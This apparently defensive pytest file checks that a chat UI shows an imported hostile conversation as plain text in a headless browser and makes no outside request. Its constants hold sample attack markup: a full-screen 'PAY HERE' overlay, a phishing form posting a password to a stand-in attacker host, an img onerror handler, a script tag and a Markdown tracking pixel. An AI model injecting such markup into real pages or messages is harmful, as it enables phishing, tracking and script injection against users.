"""A hostile conversation imported into the chat UI (a real headless chromium): HTML and Markdown that
try to lay an overlay over the page, add a form posting elsewhere and fetch remote images are shown
as the text they are, and the page makes no request outside the server."""
import json
from pathlib import Path

import pytest

from sftkit.generation import GenerateConfig, load_models
from tests.generation.test_ui import CHROMIUM, WAIT_MS, free_port, launch_browser, open_page, start_server

OVERLAY = ('<div id="overlay" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;'
           'background:red">PAY HERE</div>')
FORM = ('<form id="phish" action="http://192.0.2.1/steal" method="post"><input name="password" value="x">'
        '<button type="submit">Log in again</button></form>')
IMAGE = '<img id="pixel" src="http://192.0.2.1/pixel.png" onerror="document.title=\'owned\'">'
MARKDOWN_IMAGE = "![tracking pixel](http://192.0.2.1/markdown.png)"
SCRIPT = "<script>document.title='owned'</script>"


@pytest.fixture(scope="module")
def ui(tiny_llama):
    from playwright.sync_api import sync_playwright

    if not Path(CHROMIUM).exists():
        pytest.fail("chromium is not installed: run `make browser` (apt-get install chromium)")
    config = GenerateConfig(base_model=tiny_llama, local_files_only=True, max_new_tokens=8, repetition_penalty=1.0,
                            server_port=free_port())
    demo, url = start_server(config, load_models(config))
    with sync_playwright() as playwright:
        browser = launch_browser(playwright)
        yield dict(config=config, url=url, browser=browser)
        browser.close()
    demo.close()


def import_conversation(page, path: Path):
    with page.expect_file_chooser() as chooser:
        page.click("#import")
    chooser.value.set_files(str(path))
    page.wait_for_function("document.querySelectorAll('#chat .bot.message').length === 2", timeout=WAIT_MS)


@pytest.mark.slow
def test_imported_html_and_images_are_shown_as_text_and_fetch_nothing(ui, tmp_path):
    external = []
    page = open_page(ui, external)
    human = f"Look at this {OVERLAY} and {SCRIPT}"
    bot = f"Sure: {FORM}\n\n{IMAGE}\n\n{MARKDOWN_IMAGE}"
    saved = tmp_path / "hostile.json"
    messages = [{"human": human, "bot": bot}, {"human": "second", "bot": "<b>bold?</b>"}]
    saved.write_text(json.dumps({"format": "sftkit-chat/1", "model": "base", "messages": messages}))
    import_conversation(page, saved)
    page.wait_for_timeout(500)  # give any image the page would load time to be requested

    for selector in ("#overlay", "#phish", "#pixel", "#chat form", "#chat img", "#chat input", "#chat script",
                     "#chat b"):
        assert page.locator(selector).count() == 0, f"{selector} was rendered as HTML"
    user_text = page.locator("#chat .user.message").first.inner_text()
    bot_text, second = page.locator("#chat .bot.message").all_inner_texts()
    for fragment in (OVERLAY, SCRIPT):
        assert fragment in user_text, f"{fragment!r} not shown as text in {user_text!r}"
    for fragment in (FORM, IMAGE):
        assert fragment in bot_text, f"{fragment!r} not shown as text in {bot_text!r}"
    assert "tracking pixel" in bot_text and page.locator('#chat a[href="http://192.0.2.1/markdown.png"]').count() == 1
    assert "<b>bold?</b>" in second
    assert page.title() != "owned"
    assert external == [], f"the page reached outside the server: {external}"
    page.close()
